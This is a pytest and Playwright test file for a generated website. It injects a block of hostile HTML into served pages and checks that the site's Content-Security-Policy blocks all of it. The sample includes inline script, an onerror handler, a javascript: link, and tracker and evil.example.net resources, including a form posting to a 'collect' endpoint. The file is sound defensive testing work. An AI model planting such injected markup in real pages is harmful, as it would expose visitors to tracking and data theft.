"""What a hostile page could carry, smuggled into the built fixture site: none of it runs, and no request leaves the site.

`check` refuses such pages (tests/hostile_content/); these tests show the
second line: a built page's Content-Security-Policy allows the scripts the
site ships and nothing else. The markup is put into a served page on its way
to the browser (page.route), as if it had got past every check.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Route

from generator.publish.csp import foreign_scripts, script_hashes
from tests.conftest import built_pages

from .visits import CSP_LOGGER

SMUGGLED = """
<script>window.fpdSmuggled = "inline script"</script>
<script src="https://tracker.example.net/t.js"></script>
<img src="https://tracker.example.net/pixel.png" alt="">
<img src="no-such-image.png" alt="" onerror="window.fpdSmuggled = 'event handler'">
<link rel="stylesheet" href="https://evil.example.net/look.css">
<iframe src="https://evil.example.net/"></iframe>
<a id="fpd-smuggled-link" href="javascript:window.fpdSmuggled = 'javascript: link'">Read</a>
<form action="https://evil.example.net/collect" method="post"><button id="fpd-smuggled-send">Send</button></form>
"""
"""A script, an event handler, a javascript: link and everything that would load from or send to another host."""


@pytest.fixture
def watched(browser: Browser, site_url: str) -> Iterator[tuple[Page, list[str], list[str], list[str]]]:
    """A tab recording every request that reaches the network for another host (then refused), every CSP violation and other error.

    Chromium reports a request the policy then blocks (an image's, say) as a
    "request" event too, before the policy stops it; what leaves the browser
    is what reaches the network, where page routes see it.
    """
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    left: list[str] = []
    violations: list[str] = []
    errors: list[str] = []

    def refuse(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    context.route(re.compile(r"^(?!" + re.escape(site_url) + r"/).*"), refuse)
    context.add_init_script(CSP_LOGGER)
    page = context.new_page()

    def console(message: ConsoleMessage) -> None:
        if message.type == "error":
            (violations if message.text.startswith("CSP violation") else errors).append(message.text)

    page.on("console", console)
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield page, left, violations, errors
    context.close()


def smuggle(page: Page, url: str) -> None:
    """Serve `url` with the hostile markup at the end of its <body>."""

    def answer(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</body>", SMUGGLED + "</body>"))

    page.route(url, answer)


@pytest.mark.browser
@pytest.mark.parametrize("path", ["/about/", "/nl/programmes/example-group/", "/finder/"])
def test_smuggled_markup_neither_runs_nor_reaches_another_host(watched: tuple, site_url: str, path: str) -> None:
    page, left, violations, errors = watched
    smuggle(page, site_url + path)
    page.goto(site_url + path, wait_until="load")
    page.click("#fpd-smuggled-link", no_wait_after=True)
    page.click("#fpd-smuggled-send", no_wait_after=True)
    # Whatever the clicks and the page set off has settled: nothing more is asked of the network.
    page.wait_for_load_state("networkidle")
    assert page.url == site_url + path
    assert page.evaluate("window.fpdSmuggled") is None
    # Nothing reached the network for another host: the policy stops it in the page.
    assert left == []
    # The policy is what stopped them: the inline script and the javascript: link, the handler, and the other host's script, image, stylesheet, frame and form.
    blocked = " ".join(violations)
    for directive in ("script-src-elem inline", "script-src-attr inline", "script-src-elem https://tracker.example.net/t.js", "img-src https://tracker.example.net/pixel.png", "style-src-elem https://evil.example.net/look.css", "frame-src https://evil.example.net", "form-action https://evil.example.net/collect"):
        assert directive in blocked, (directive, violations)
    # The site's own scripts ran: Material's helpers, and the quick exit's (it set up its status text).
    assert page.evaluate("typeof __md_get") == "function"
    # Chromium says each blocked thing once more in its own words; the only other error is the missing image.
    assert [error for error in errors if "Content Security Policy" not in error] == ["Failed to load resource: the server responded with a status of 404 (File not found)"]


@pytest.mark.browser
def test_the_site_own_pages_run_their_scripts_without_a_violation(watched: tuple, site_url: str) -> None:
    """The control for the test above: the same pages as built cause no violation and no request elsewhere."""
    page, left, violations, errors = watched
    for path in ("/about/", "/nl/programmes/example-group/", "/finder/", "/404.html", "/nl/404.html"):
        page.goto(site_url + path, wait_until="networkidle")
        assert page.evaluate("typeof __md_get") == "function", path
    assert violations == [] and errors == [] and left == []


def test_every_inline_script_of_the_built_site_is_one_the_site_ships(site: Path) -> None:
    pages = built_pages(site)
    assert len(pages) > 50
    for path in pages:
        html = path.read_text(encoding="utf-8")
        assert foreign_scripts(html) == [], path
        assert len(script_hashes(html)) >= 2, path
